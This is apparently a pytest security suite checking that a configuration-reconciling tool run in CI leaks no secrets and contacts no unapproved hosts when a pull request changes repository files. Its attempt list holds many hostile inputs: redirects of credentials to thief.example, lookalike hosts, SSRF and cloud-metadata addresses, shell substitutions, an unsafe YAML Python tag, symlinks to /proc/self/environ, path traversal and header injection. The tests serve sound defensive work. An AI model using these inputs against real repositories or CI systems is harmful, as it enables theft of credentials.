"""What somebody gets who may change every file of a repository, from the commands that CI runs on
it: no request to a host that was not allowed, and no environment variable."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import pytest

from reconciler.providers import PROVIDERS
from reconciler.sandbox import Options, credentials

from .conftest import Result, Run
from .thief import Thief, thieving
from .vendors import running

CANARIES = {
    "AWS_SECRET_ACCESS_KEY": "aws/kanarya+0123456789ABCDEFGHIJ",
    "GITHUB_TOKEN": "ghp_kanarya0123456789abcdef0123456789",
    "DATABASE_URL": "https://app:kanarya-db-0123456789@db.corp.example",
    "SFTP_PASSWORD": "kanarya sftp \u00fc & 'x' 0123456789",
    "RECONCILER_LEDGER_KEY": "kanarya-ledger-key-0123456789abcdef",
    "RECONCILER_PLAN_KEY": "kanarya-plan-key-0123456789abcdef",
}
HOSTS = {*PROVIDERS["kobo-plm"].own_hosts, *PROVIDERS["kibo"].own_hosts}
COMMANDS = [
    ("validate",),
    ("validate", "--format", "json"),
    ("-v", "plan", "--out", "saved.plan"),
    ("plan", "--format", "json"),
    ("doctor",),
    ("apply", "--auto-approve"),
]
WORKSPACE = """\
name: acme
providers:
  kobo:
    type: kobo-plm
    api_key: ${env.KOBO_API_KEY}
    base_url: KOBO_URL
    requests_per_minute: 0
  kibo:
    type: kibo
    client_id: ${env.KIBO_CLIENT_ID}
    client_secret: ${env.KIBO_CLIENT_SECRET}
    tenant: 12345
    site: 67890
    master_catalog: 1
    catalog: 1
    base_url: KIBO_URL
    requests_per_minute: 0
secrets:
  sftp: ${env.SFTP_PASSWORD}
"""
MANIFEST = "provider: kobo\nsuppliers:\n  S-1: {name: Anadolu}\n"
SFTP = (
    "---\nprovider: kibo\nfetch_file_configs:\n"
    "  gece: {active: true, postProcessAction: 1, ftpServer: %s, ftpPassword: '%s'}\n"
)
MAIN, FILE = "manifests/main.yaml", "reconciler.yaml"
Change = Callable[[Path], None]


def settings(old: str, new: str) -> Change:
    """A change of a line of reconciler.yaml."""

    def change(root: Path) -> None:
        text = (root / FILE).read_text("utf-8")
        assert old in text
        (root / FILE).write_text(text.replace(old, new, 1), "utf-8")

    return change


def kobo(line: str) -> Change:
    """Another line among the settings of the provider kobo, in the place of its address."""
    return settings("    base_url: KOBO_URL\n", f"    {line}\n")


def key(text: str, line: str = "base_url: https://thief.example") -> Change:
    """Another credential of the provider kobo, and another line for its address."""
    return both(settings("${env.KOBO_API_KEY}", text), kobo(line))


def more(text: str) -> Change:
    """More settings at the end of reconciler.yaml."""
    return settings("secrets:\n", f"{text}\nsecrets:\n")


def file(name: str, text: str, mode: int = 0o600) -> Change:
    """A file of this name."""

    def change(root: Path) -> None:
        path = root / name
        path.parent.mkdir(0o700, parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
        path.chmod(mode)

    return change


def link(name: str, target: str) -> Change:
    """A symbolic link of this name, in the place of what is there."""

    def change(root: Path) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir() and not path.is_symlink():
            path.rename(path.with_name("moved"))
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return change


def both(*changes: Change) -> Change:
    """Several changes at once."""

    def change(root: Path) -> None:
        for one in changes:
            one(root)

    return change


def supplier(name: str) -> Change:
    """A supplier with this name in the manifest."""
    return file(MAIN, f"provider: kobo\nsuppliers:\n  S-1: {{name: {json.dumps(name)}}}\n")


THIEF = "base_url: https://thief.example/api"
HOOK = "provider: kobo\nwebhooks:\n  w: {name: W, url: '%s', events: [style.created]}\n"
FORGED = (
    '{"t":"ledger","version":1,"workspace":"acme"}\n'
    '{"t":"account","provider":"kobo","type":"kobo-plm","host":"thief.example"}\n'
)
ATTEMPTS: dict[str, Change] = {
    # another host for the credentials that are there
    "another host": kobo(THIEF),
    "another host and port": kobo("base_url: https://thief.example:8443"),
    "a host that ends like the vendor's": kobo("base_url: https://xapi.kobolabs.io"),
    "a host that begins like the vendor's": kobo("base_url: https://api.kobolabs.io.thief.example"),
    "a user that looks like the vendor": kobo("base_url: https://api.kobolabs.io@thief.example"),
    "a backslash": kobo("base_url: 'https://thief.example\\@api.kobolabs.io'"),
    "a lookalike": kobo("base_url: https://api.k\u043ebolabs.io"),
    "another port of the vendor": kobo("base_url: https://api.kobolabs.io:8443"),
    "another vendor": kobo("base_url: https://api.inventora.com"),
    "plain http": kobo("base_url: http://thief.example"),
    "this machine by another name": kobo("base_url: https://localhost.thief.example"),
    "any address": kobo("base_url: https://0.0.0.0:8800"),
    "a mapped address": kobo("base_url: 'https://[::ffff:10.0.0.1]'"),
    "a hexadecimal address": kobo("base_url: https://0x7f000001"),
    "an address in the middle": kobo("base_url: 'https://[::1].thief.example'"),
    "an address at the end": kobo("base_url: 'https://thief.example[::1]:443'"),
    "a zone": kobo("base_url: 'https://[fe80::1%25eth0]'"),
    "a dot at the end": kobo("base_url: https://localhost."),
    "a host in percent": kobo("base_url: https://api.kobolabs.io%2ethief.example"),
    "a proxy like this machine": kobo("proxy: 'http://[::1].thief.example:3128'"),
    "the cloud's metadata": kobo("base_url: https://169.254.169.254"),
    "a host in a variable": both(
        kobo("base_url: 'https://${var.h}'"), more("variables: {h: thief.example}")
    ),
    "an environment": more("environments: {live: {providers: {kobo: {base_url: https://t.example}}}}"),
    "a proxy": kobo("proxy: http://thief.example:3128"),
    "a proxy for this machine": settings("KOBO_URL", "KOBO_URL\n    proxy: http://thief.example:3128"),
    "a proxy from the environment": kobo("proxy: '${env.DATABASE_URL}'"),
    "a tenant elsewhere": settings("base_url: KIBO_URL", "base_url: https://home.mozu.com.thief.example"),
    # another credential, for this host or another
    "a key of somebody else, elsewhere": key("${env.AWS_SECRET_ACCESS_KEY}"),
    "a key of somebody else, here": key("${env.GITHUB_TOKEN}", "base_url: KOBO_URL"),
    "a key of somebody else, at the vendor": key("${env.GITHUB_TOKEN}", "tier: basic"),
    "the ledger's key": key("${env.RECONCILER_LEDGER_KEY}", "base_url: KOBO_URL"),
    "a user's name": settings("${env.KIBO_CLIENT_ID}", "${env.AWS_SECRET_ACCESS_KEY}"),
    "a key in two parts": key("${env.GITHUB_TOKEN}${env.KOBO_API_KEY}"),
    "a name that is escaped twice": both(
        key("${var.k}", "base_url: KOBO_URL"), more("variables: {k: '$${env.GITHUB_TOKEN}'}")
    ),
    # a variable where it would be shown or sent
    "an address with a variable": kobo("base_url: 'https://thief.example/${env.GITHUB_TOKEN}'"),
    "a host with a variable": kobo("base_url: 'https://${env.GITHUB_TOKEN}.thief.example'"),
    "a tier": kobo("tier: ${env.GITHUB_TOKEN}"),
    "a type": settings("type: kobo-plm", "type: ${env.GITHUB_TOKEN}"),
    "a tenant": settings("12345", "${env.GITHUB_TOKEN}"),
    "a limit": kobo("requests_per_minute: ${env.GITHUB_TOKEN}"),
    "an unknown setting": kobo("note: ${env.GITHUB_TOKEN}"),
    "the name of the workspace": settings("name: acme", "name: ${env.GITHUB_TOKEN}"),
    "a variable": both(more("variables: {x: '${env.KOBO_API_KEY}'}"), supplier("${var.x}")),
    "a list in a variable": more("variables: {x: [{y: '${env.KOBO_API_KEY}'}]}"),
    "an exclusive kind": more("exclusive: ['${env.GITHUB_TOKEN}/x']"),
    "an exception": more("exclusive: [{kind: kobo/suppliers, except: ['${env.GITHUB_TOKEN}']}]"),
    "a ledger": more("ledger: '.reconciler/${env.GITHUB_TOKEN}'"),
    "a folder": more("manifests: '${env.GITHUB_TOKEN}'"),
    "a guard": more("guard: {max_deletes: '${env.GITHUB_TOKEN}'}"),
    "an environment's name": more("environments: {'${env.GITHUB_TOKEN}': {}}"),
    "blanks in a reference": kobo("base_url: 'https://thief.example/${ env . GITHUB_TOKEN }'"),
    "a reference in a reference": more("variables: {x: '${var.${env.GITHUB_TOKEN}}'}"),
    "a variable of another case": kobo("tier: '${ENV.GITHUB_TOKEN}'"),
    "an anchor": both(
        settings("${env.KOBO_API_KEY}", "&k ${env.GITHUB_TOKEN}"),
        more("variables: {x: *k}"),
        supplier("${var.x}"),
    ),
    "a merge": more("variables: {<<: {x: '${env.GITHUB_TOKEN}'}}"),
    "an environment's variable": both(
        more("environments: {live: {variables: {x: '${env.GITHUB_TOKEN}'}}}"),
        supplier("${var.x}"),
    ),
    "an environment's secret": more(
        "environments: {live: {secrets: {sftp: '${env.RECONCILER_PLAN_KEY}'}}}"
    ),
    "a secret inside a secret": settings("${env.SFTP_PASSWORD}", "{x: '${env.SFTP_PASSWORD}'}"),
    "a part of a secret": settings("${env.SFTP_PASSWORD}", "x${env.SFTP_PASSWORD}"),
    # manifests
    "a name in a manifest": supplier("${env.GITHUB_TOKEN}"),
    "other languages of templates": supplier("$GITHUB_TOKEN {{ env.GITHUB_TOKEN }}"),
    "a shell": supplier("$(printenv GITHUB_TOKEN) `printenv GITHUB_TOKEN`"),
    "a tag": file(MAIN, "provider: kobo\nsuppliers: {S: {name: !ENV '${GITHUB_TOKEN}'}}\n"),
    "a tag of Python": file(
        MAIN, "provider: kobo\nsuppliers: {S: !!python/object/apply:os.getenv [GITHUB_TOKEN]}\n"
    ),
    "a secret in a name": supplier("${secret.sftp}"),
    "a secret in a webhook": file(MAIN, HOOK % "https://thief.example/${secret.sftp}"),
    "a webhook elsewhere": file(MAIN, HOOK % "https://thief.example/hook"),
    "a secret where it may be": file(MAIN, MANIFEST + SFTP % ("thief.example", "${secret.sftp}")),
    "a credential as a secret": both(
        settings("${env.SFTP_PASSWORD}", "${env.AWS_SECRET_ACCESS_KEY}"),
        file(MAIN, MANIFEST + SFTP % ("thief.example", "${secret.sftp}")),
    ),
    "a part of a secret in a manifest": file(MAIN, MANIFEST + SFTP % ("f", "x${secret.sftp}")),
    "a key with a variable": file(MAIN, "provider: kobo\nsuppliers: {'${env.GITHUB_TOKEN}': {}}\n"),
    "a schema elsewhere": file(
        MAIN, f"# yaml-language-server: $schema=https://thief.example/s.json\n{MANIFEST}"
    ),
    "a reference to a schema": more("$ref: https://thief.example/s.json"),
    # files and links
    "a link to the environment": link("manifests/x.yaml", "/proc/self/environ"),
    "a workspace that is the environment": link(FILE, "/proc/self/environ"),
    "a folder that is the process": link("manifests", "/proc/self"),
    "a folder of the process": more("manifests: /proc/self"),
    "a folder outside": more("manifests: ../../../../../../proc/self"),
    "a ledger that is the environment": link(".reconciler/ledger.jsonl", "/proc/self/environ"),
    "a ledger of the process": more("ledger: /proc/self/environ"),
    "a forged ledger": file(".reconciler/ledger.jsonl", FORGED),
    "a lock that is the environment": link(".reconciler/ledger.jsonl.lock", "/proc/self/environ"),
    "a plan that is the environment": link("saved.plan", "/proc/self/environ"),
    "two workspaces": file("reconciler.yml", "name: ${env.GITHUB_TOKEN}\nproviders: {}\n"),
    # what the tool could be made to believe
    "trusted hosts": both(
        kobo(THIEF),
        *(
            file(f"{name}/trusted-hosts", "thief.example\n*.example\n")
            for name in (".reconciler", ".config/reconciler", "reconciler", "~/.config/reconciler")
        ),
    ),
    "files with variables": both(
        kobo(THIEF),
        *(
            file(name, "RECONCILER_ALLOWED_HOSTS=thief.example\nXDG_CONFIG_HOME=.\n")
            for name in (".env", ".envrc", ".reconcilerrc", "reconciler.env")
        ),
    ),
    "settings that approve": both(kobo(THIEF), more("allowed_hosts: [thief.example]")),
    "a variable that approves": both(
        kobo(THIEF), more("variables: {RECONCILER_ALLOWED_HOSTS: thief.example}")
    ),
    "a secret that approves": both(
        kobo(THIEF), settings("secrets:\n", "secrets:\n  RECONCILER_ALLOWED_HOSTS: thief.example\n")
    ),
    "a netrc": both(kobo(THIEF), file(".netrc", "machine thief.example login a password b\n")),
    "a line break in a header": settings("12345", '"1\\r\\nHost: thief.example"'),
    "a path that leads up": settings("12345", '"../../../../x"'),
    "a command for the runner": settings("acme", '"::set-env name=X::${env.GITHUB_TOKEN}"'),
}  # fmt: skip


class Shop(NamedTuple):
    """A repository as it is before somebody changes it, the vendors, and every host elsewhere."""

    root: Path
    home: Path
    sandbox: Any
    thief: Thief
    run: Run

    def change(self, change: Change) -> None:
        """Make the change, and put in the addresses of the vendors on this machine."""
        change(self.root)
        path = self.root / FILE
        if path.is_symlink():
            return
        text = path.read_text("utf-8")
        for name, vendor in (("KOBO_URL", "kobo-plm"), ("KIBO_URL", "kibo")):
            text = text.replace(name, self.sandbox.urls[vendor])
        path.write_text(text, "utf-8")

    def files(self) -> Iterator[Path]:
        """Every file in the repository and in the home of the user."""
        for folder in (self.root, self.home):
            yield from (p for p in folder.rglob("*") if p.is_file() and not p.is_symlink())


@pytest.fixture(scope="module")
def vendors() -> Iterator[Any]:
    """The vendors on this machine."""
    with running(Options(port=0, rate=0, job_seconds=0)) as sandbox:
        yield sandbox


@pytest.fixture
def shop(tmp_path: Path, vendors: Any, monkeypatch: pytest.MonkeyPatch, run: Run) -> Iterator[Shop]:
    """A checkout on a runner of CI that has secrets."""
    root, home = tmp_path / "checkout", tmp_path / "home"
    (root / "manifests").mkdir(parents=True)
    (root / ".git").mkdir()
    home.mkdir()
    (root / FILE).write_text(WORKSPACE, "utf-8")
    (root / MAIN).write_text(MANIFEST, "utf-8")
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.setenv("HOME", str(home))
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)
    with thieving() as thief:
        yield Shop(root, home, vendors, thief, run)


def forms(value: str) -> set[str]:
    """A value as it may be shown: as it is, in JSON, in a URL, in hexadecimal and in Base64."""
    data = value.encode()
    plain = {value, json.dumps(value)[1:-1], json.dumps(value, ensure_ascii=False)[1:-1]}
    return {*plain, quote(value, safe=""), data.hex(), base64.b64encode(data).decode()[:-4]}


SECRET = {
    name: value
    for name, value in {
        **CANARIES,
        **credentials(),
        "the password in DATABASE_URL": "kanarya-db-0123456789",
        "the host in DATABASE_URL": "db.corp.example",
    }.items()
    if name not in ("KIBO_OMS_USERNAME",)  # "sandbox", a word
}


def told(text: str) -> list[str]:
    """The variables whose value is in a text."""
    return [name for name, value in SECRET.items() if any(form in text for form in forms(value))]


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_a_pull_request_gets_nothing(shop: Shop, attempt: str) -> None:
    """Every command that CI would run ends with an exit code of ours and no traceback; nothing was
    asked of another host than the vendors', and no variable is in any output or file."""
    shop.change(ATTEMPTS[attempt])
    overlay = ("--env", "live") if attempt.startswith("an environment") else ()
    shown: list[Result] = []
    for words in COMMANDS:
        shown.append(shop.run("-C", str(shop.root), *overlay, *words))
    for result in shown:
        assert result.code in (0, 1, 3, 4), result
        assert "Traceback" not in result.err
        assert told(result.out + result.err) == []
    assert shop.thief.asked <= HOSTS
    assert told(b"".join(shop.thief.received).decode("latin-1")) == []
    for path in shop.files():
        assert told(path.read_bytes().decode("utf-8", "replace")) == [], path


def test_there_are_many_attempts() -> None:
    """Fewer would be no campaign."""
    assert len(ATTEMPTS) >= 50


def test_an_honest_change_is_applied(shop: Shop) -> None:
    """The same commands do their work where nobody attacks; otherwise nothing would be shown."""
    shop.change(lambda _: None)
    for words in COMMANDS:
        result = shop.run("-C", str(shop.root), *words)
        assert result.code == 0, result
    assert shop.thief.asked == set()


def test_the_thief_is_found(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    """With an approval the credentials go where the repository says: the test would see it."""
    monkeypatch.setenv("RECONCILER_ALLOWED_HOSTS", "thief.example")
    shop.change(ATTEMPTS["another host"])
    assert shop.run("-C", str(shop.root), "plan").code == 1
    assert shop.thief.asked == {"thief.example"}
    assert shop.thief.received


def test_no_code_of_a_repository_is_run(shop: Shop) -> None:
    """The command that the package installs imports nothing from the current folder."""
    shop.change(ATTEMPTS["a webhook elsewhere"])
    spy = f"import os\nopen({str(shop.home / 'ran')!r}, 'a').write(__name__)\n"
    for name in ("yaml", "httpx", "httpcore", "click", "deepdiff", "jsonschema", "json", "ssl",
                 "sitecustomize", "usercustomize", "reconciler", "rich", "idna",
                 "jinja2", "h11"):  # fmt: skip
        (shop.root / f"{name}.py").write_text(spy)
    command = Path(sys.executable).with_name("reconciler")
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
    done = subprocess.run(
        [command, "plan"],
        cwd=shop.root,
        env=environment,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done
    assert not (shop.home / "ran").exists()
